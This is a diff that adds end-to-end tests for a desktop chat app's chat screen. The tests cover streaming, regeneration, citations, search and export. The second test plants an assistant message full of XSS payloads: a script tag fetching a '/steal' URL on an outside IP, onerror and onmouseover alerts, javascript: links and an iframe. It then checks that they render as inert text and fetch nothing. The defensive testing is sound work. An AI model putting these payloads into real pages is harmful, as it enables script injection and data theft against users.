@@ -1,0 +1,145 @@
+import { readFileSync } from 'node:fs';
+import { join, resolve } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { addMessage, updateMessage } from '../../electron/services/chat/chat-store';
+import { resolveCitations } from '../../electron/services/chat/chat-service';
+import { fixtureModel } from '../../native-models/fixtures/generate';
+import { useTempDir } from '../helpers/temp-dir';
+import { screenshot, useApp } from './harness';
+
+const tempDir = useTempDir('hearth-e2e-chat-');
+const app = useApp();
+const OSX = resolve(import.meta.dirname, '../../../shared/corpus/tldr/pages/osx');
+
+describe('Chat screen', () => {
+  it('streams a grounded answer, stops it, regenerates, moves between branches, opens a citation, searches and exports', async () => {
+    const session = await app.open(tempDir(), '/library');
+    const { page, bridge } = session;
+    const { services } = bridge;
+    await services.models.import(fixtureModel('tiny-chat'), 'reference');
+    const collection = services.library.createCollection('Mac pages');
+    services.library.addFolder(collection.id, OSX);
+    await services.library.index(collection.id);
+    // Long answers (the tiny model writes ~1,000 tokens a second), so there is time to watch and stop.
+    const chat = services.chat.create({
+      collectionIds: [collection.id],
+      generation: { temperature: 0.9, seed: 2, maxTokens: 3000 },
+    });
+
+    await page.goto(`${bridge.url}#/chat`);
+    await page.getByTestId('conversation-title').waitFor();
+    await page.getByLabel('Message').fill('How do I keep my mac awake during a long job?');
+    await page.getByRole('button', { name: 'Send' }).click();
+    const answer = page.locator('[data-testid="message"][data-role="assistant"]');
+    await page.locator('[data-testid="message"][data-status="streaming"]').waitFor({ timeout: 15_000 });
+    await expect.poll(async () => ((await answer.last().textContent()) ?? '').length).toBeGreaterThan(40);
+    await screenshot(page, 'chat-streaming');
+    await page.getByRole('button', { name: 'Stop' }).click();
+    await answer.last().getByText('Stopped.').waitFor();
+    await page.getByTestId('retrieval-trace').waitFor();
+    expect(await page.getByTestId('retrieval-trace').textContent()).toMatch(
+      /Retrieval: [1-9]\d* of \d+ passages used \(keyword\)/,
+    );
+    await expect
+      .poll(() => page.getByTestId('conversation-title').textContent())
+      .toBe('How do I keep my mac awake during a long job');
+
+    // Regenerate: a second answer beside the first, then back to the first.
+    await answer.last().getByRole('button', { name: 'Regenerate' }).click();
+    await page.locator('[data-testid="message"][data-status="streaming"]').waitFor({ timeout: 15_000 });
+    await page.getByRole('button', { name: 'Stop' }).click();
+    await expect.poll(() => page.getByTestId('branch-position').textContent()).toBe('2/2');
+    await screenshot(page, 'chat-regenerated');
+    await page.getByRole('button', { name: 'Previous version' }).click();
+    await expect.poll(() => page.getByTestId('branch-position').textContent()).toBe('1/2');
+    const view = services.chat.view(chat.id);
+    expect(view.messages).toHaveLength(3);
+
+    // A cited answer (the tiny model's words mean nothing, so this one is written for it, with
+    // citations checked by the real code against real passages): open its source.
+    const hits = await services.search.search({
+      query: 'caffeinate prevent sleeping',
+      collectionIds: [collection.id],
+      limit: 1,
+    });
+    const sources = hits.hits.map((hit, index) => ({ n: index + 1, hit }));
+    const text = 'Run caffeinate to prevent the mac from sleeping [1]. It also waters the plants [1].';
+    const question = addMessage(services.store.hearth, {
+      conversationId: chat.id,
+      parentId: view.branch[1]!.messageId,
+      role: 'user',
+      content: 'And the command?',
+    });
+    const cited = addMessage(services.store.hearth, {
+      conversationId: chat.id,
+      parentId: question.id,
+      role: 'assistant',
+      content: text,
+    });
+    updateMessage(services.store.hearth, cited.id, { citations: resolveCitations(text, sources) });
+    await page.reload();
+    const chips = page.getByTestId('citation-chip');
+    await chips.first().waitFor();
+    expect(await chips.evaluateAll((elements) => elements.map((e) => e.getAttribute('data-status')))).toEqual([
+      'supported',
+      'unsupported',
+    ]);
+    await chips.first().click();
+    const panel = page.getByRole('complementary', { name: 'Source 1' });
+    await panel.waitFor();
+    expect(await panel.textContent()).toContain('caffeinate.md');
+    expect(await panel.locator('mark').textContent()).toMatch(/sleep/i);
+    await panel.getByRole('button', { name: 'Open file' }).click();
+    await expect.poll(() => bridge.opened).toEqual([{ action: 'open', path: join(OSX, 'caffeinate.md') }]);
+    await screenshot(page, 'chat-citation');
+
+    // Chat search finds the cited answer and opens its branch.
+    await page.getByRole('button', { name: 'New chat' }).click();
+    await expect.poll(() => page.getByTestId('conversation').count()).toBe(2);
+    await page.getByLabel('Search chats', { exact: true }).fill('waters plants');
+    await page.getByRole('button', { name: 'Search chats now' }).click();
+    await page.getByTestId('chat-search-hit').first().click();
+    await page.getByTestId('citation-chip').first().waitFor();
+    await screenshot(page, 'chat-search');
+
+    // Export the branch shown as Markdown.
+    const download = page.waitForEvent('download');
+    await page.getByRole('button', { name: 'Export' }).click();
+    const file = await (await download).path();
+    const markdown = readFileSync(file, 'utf8');
+    expect(markdown).toMatch(/^# How do I keep my mac awake during a long job\n/);
+    expect(markdown).toContain('- [1] caffeinate.md, lines');
+    expect(markdown).toContain('It also waters the plants [1].');
+
+    const origin = new URL(bridge.url).origin;
+    expect(session.requests.filter((url) => !url.startsWith(`${origin}/`) && !url.startsWith('blob:'))).toEqual([]);
+    expect(session.errors).toEqual([]);
+  }, 180_000);
+
+  it('shows an answer full of hostile markup as inert text and fetches nothing', async () => {
+    const session = await app.open(tempDir(), '/library');
+    const { page, bridge } = session;
+    const db = bridge.services.store.hearth;
+    const chat = bridge.services.chat.create();
+    const question = addMessage(db, { conversationId: chat.id, parentId: null, role: 'user', content: 'hi' });
+    addMessage(db, {
+      conversationId: chat.id,
+      parentId: question.id,
+      role: 'assistant',
+      content:
+        '![x](http://203.0.113.9/pixel.png) <img src="http://203.0.113.9/a.png" onerror="alert(1)"> ' +
+        '<script>fetch("http://203.0.113.9/steal")</script> [click](javascript:alert(2)) ' +
+        '<a href="javascript:alert(3)">link</a> <iframe src="http://203.0.113.9/"></iframe> <b onmouseover="alert(4)">bold</b>',
+    });
+    await page.goto(`${bridge.url}#/chat`);
+    const message = page.locator('[data-testid="message"][data-role="assistant"]');
+    await message.waitFor();
+    expect(await message.locator('img, script, iframe, a, b').count()).toBe(0);
+    expect(await message.textContent()).toContain('<script>fetch("http://203.0.113.9/steal")</script>');
+    await page.waitForTimeout(500);
+    await screenshot(page, 'chat-hostile-markup');
+    const origin = new URL(bridge.url).origin;
+    expect(session.requests.filter((url) => !url.startsWith(`${origin}/`))).toEqual([]);
+    expect(session.errors).toEqual([]);
+  });
+});
